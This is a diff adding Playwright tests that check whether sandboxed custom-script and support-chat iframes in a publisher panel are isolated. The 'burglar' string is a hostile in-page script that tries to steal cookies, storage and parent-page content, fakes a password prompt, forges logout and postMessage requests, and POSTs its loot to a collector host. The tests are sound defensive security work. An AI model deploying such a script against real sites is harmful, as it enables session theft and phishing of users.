@@ -1,0 +1,161 @@
+import type { Request } from '@playwright/test';
+import * as v from 'valibot';
+import { framePaths } from '#contract/paths.ts';
+import { expect, test } from '#tests/support/journey.ts';
+import { listener } from '#tests/support/listener.ts';
+import { manager } from '#tests/support/manager.ts';
+import { MemberSession } from '#tests/support/member-session.ts';
+import { newcomer } from '#tests/support/newcomer.ts';
+
+const Findings = v.record(v.string(), v.string());
+
+/**
+ * Tries whatever a script in a page could do to the panel around it, and tells its maker what came of it:
+ * `got …` with the loot, or the name of the refusal.
+ */
+const burglar = (network: string, collector: string) =>
+  `
+(async () => {
+  const found = {};
+  const attempt = async (name, look) => {
+    try { found[name] = 'got ' + String(await look()); } catch (error) { found[name] = error.name; }
+  };
+  const seen = (answer) => answer.text().then((text) => answer.status + ' ' + text.slice(0, 80));
+  const api = '/publisher/api/';
+  const base = 'ORIGIN';
+  await attempt('cookie', () => document.cookie);
+  await attempt('set cookie', () => { document.cookie = 'stolen=1; path=/'; return document.cookie; });
+  await attempt('localStorage', () => JSON.stringify(localStorage));
+  await attempt('sessionStorage', () => JSON.stringify(sessionStorage));
+  await attempt('indexedDB', () => new Promise((done, fail) => {
+    const request = indexedDB.open('x');
+    request.onsuccess = () => done('opened');
+    request.onerror = () => fail(request.error);
+  }));
+  await attempt('caches', () => caches.keys());
+  await attempt('worker', () => navigator.serviceWorker.register('/publisher/sw.js'));
+  await attempt('parent document', () => parent.document.body.innerHTML.slice(0, 80));
+  await attempt('parent storage', () => parent.localStorage.length);
+  await attempt('parent variable', () => { parent.hacked = true; return 'set'; });
+  await attempt('frame element', () => window.frameElement === null ? Promise.reject({ name: 'nothing' }) : 'it');
+  await attempt('top location', () => top.location.href);
+  // By itself it may go where it likes.
+  if (top !== self) await attempt('leave', () => { top.location.href = 'COLLECTOR'; return 'gone'; });
+  await attempt('window', () => window.open('COLLECTOR') === null ? Promise.reject({ name: 'nothing' }) : 'opened');
+  await attempt('dialog', () => window.confirm('Your password?') ? 'yes' : Promise.reject({ name: 'nothing' }));
+  for (const credentials of ['include', 'same-origin'])
+    await attempt('profile, ' + credentials, () => fetch(base + api + 'publishers/current', { credentials }).then(seen));
+  await attempt('mailbox', () => fetch(base + '/mailbox', { credentials: 'include' }).then(seen));
+  await attempt('page', () => fetch(base + '/publisher/dashboard', { credentials: 'include' }).then(seen));
+  await attempt('stream', () => fetch(base + api + 'events', { credentials: 'include' }).then(seen));
+  // Blind: nobody reads the answer, but it must do nothing either.
+  const blind = { method: 'POST', mode: 'no-cors', credentials: 'include' };
+  await fetch(base + api + 'logout', blind).catch(() => 0);
+  await fetch(base + api + 'notifications/mark_read', { ...blind, body: '{}' }).catch(() => 0);
+  parent.postMessage({ type: 'session.signOut' }, '*');
+  parent.postMessage({ type: 'language', language: 'ru' }, '*');
+  try { new BroadcastChannel('panel').postMessage({ type: 'language', language: 'ru' }); } catch {}
+  found.origin = 'got ' + self.origin;
+  found.referrer = 'got ' + document.referrer;
+  await fetch('COLLECTOR', { method: 'POST', mode: 'no-cors', body: JSON.stringify(found) });
+})();
+`
+    .replaceAll('COLLECTOR', collector)
+    .replaceAll('ORIGIN', network);
+
+const frames = { custom: framePaths.customJs, chat: framePaths.chat } as const;
+
+/** What stands in a frame, to be put back; `off` where there is none. */
+async function scriptsOf(origin: string, kind: keyof typeof frames): Promise<string> {
+  const answer = await fetch(origin + frames[kind]);
+  return (answer.ok && /<body>([\s\S]*)<\/body>/.exec(await answer.text())?.[1]) || 'off';
+}
+
+/** What it may know: that it is nobody, called by nobody. Everything else is a refusal. */
+const nothing = { origin: 'got null', referrer: 'got ' };
+
+for (const kind of ['custom', 'chat'] as const) {
+  test(`a hostile script (${kind}) gets nothing of the panel around it`, async ({
+    loginPage,
+    dashboard,
+    header,
+    page,
+    network,
+    expected,
+  }) => {
+    // The browser says aloud what it refuses the frame; the panel itself has nothing to complain of.
+    expected.push(/sandbox|CORS|Unsafe attempt|Blocked a frame|net::ERR|status of 40[13]|ERR_BLOCKED/i);
+    const collector = await listener();
+    const before = await scriptsOf(network.origin, kind);
+    const script = burglar(network.origin, collector.origin);
+    const who = await newcomer(network.origin);
+    const session = new MemberSession(page.context(), network.origin);
+    const withCookies: string[] = [];
+    const heardBy = async (request: Request) => {
+      const { cookie } = await request.allHeaders();
+      const from = request.frame();
+      const own = from !== page.mainFrame() && !request.isNavigationRequest();
+      if (own && cookie !== undefined) withCookies.push(`${request.url()} ${cookie}`);
+    };
+    const told: Promise<void>[] = [];
+    page.on('request', (request) => {
+      if (request.serviceWorker() === null) told.push(heardBy(request).catch(() => undefined));
+    });
+    try {
+      await manager(network, 'notify', who.username, 'Nobody has read this');
+      await manager(network, 'scripts', kind, kind === 'chat' ? `<script>${script}</script>` : script);
+      await loginPage.open();
+      await loginPage.logIn(who.username, who.password);
+      await dashboard.shown();
+      if (kind === 'chat') await header.chat.click();
+      await expect.poll(() => collector.heard.length).toBeGreaterThan(0);
+      const found = v.parse(Findings, JSON.parse(collector.heard[0] ?? '{}'));
+      const loot = Object.entries(found).filter(([, what]) => what.startsWith('got '));
+      expect(Object.fromEntries(loot)).toEqual(nothing);
+      expect(Object.keys(found).length).toBeGreaterThan(18);
+
+      await Promise.all(told);
+      expect(withCookies).toEqual([]);
+      // The panel is as it was: same page, same language, nothing read, still logged in.
+      expect(page.url()).toMatch(/\/publisher\/dashboard/);
+      expect(await page.evaluate(() => Reflect.has(window, 'hacked'))).toBe(false);
+      await expect(page.locator('html')).toHaveAttribute('lang', 'en');
+      expect(await session.status()).toBe(200);
+      expect(await session.unseenNotifications()).toBe(1);
+      const cookies = await page.context().cookies();
+      expect(cookies.map(({ name }) => name)).not.toContain('stolen');
+
+      // Called by itself, without the panel around it, it has no origin either.
+      const heard = collector.heard.length;
+      await page.goto(network.origin + frames[kind]);
+      await expect.poll(() => collector.heard.length).toBeGreaterThan(heard);
+      const alone = v.parse(Findings, JSON.parse(collector.heard.at(-1) ?? '{}'));
+      expect(alone['origin']).toBe('got null');
+      expect(alone['cookie']).toBe('SecurityError');
+      expect(alone['profile, include']).toBe('TypeError');
+      expect(await session.status()).toBe(200);
+    } finally {
+      await manager(network, 'scripts', kind, before);
+      collector.stop();
+    }
+  });
+}
+
+test('the support chat opens in a frame, keeps what was said, and closes by keyboard', async ({
+  signedIn,
+  header,
+  page,
+}) => {
+  await signedIn.shown();
+  await header.chat.click();
+  const dock = page.getByRole('complementary', { name: 'Support chat' });
+  await expect(dock).toBeFocused();
+  const chat = dock.frameLocator('iframe');
+  await chat.getByRole('textbox').fill('Is anybody there?');
+  await chat.getByRole('button').click();
+  await expect(chat.getByText('Is anybody there?')).toBeVisible();
+  await dock.getByRole('button', { name: 'Close the chat' }).click();
+  await expect(dock).toBeHidden();
+  await header.chat.click();
+  await expect(chat.getByText('Is anybody there?')).toBeVisible();
+});
